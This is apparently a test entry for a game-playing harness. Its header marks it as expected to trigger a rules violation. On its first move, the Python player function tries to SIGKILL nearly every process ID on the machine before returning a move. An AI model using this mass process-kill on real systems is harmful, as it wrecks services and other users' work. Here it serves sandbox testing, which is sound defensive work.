# expect rules
# millis 5000
import os

done = []


def player(E, M, J):
    if not done:
        done.append(1)
        for pid in range(1, 40000):
            if pid != os.getpid():
                try:
                    os.kill(pid, 9)
                except OSError:
                    pass
    return M[0]
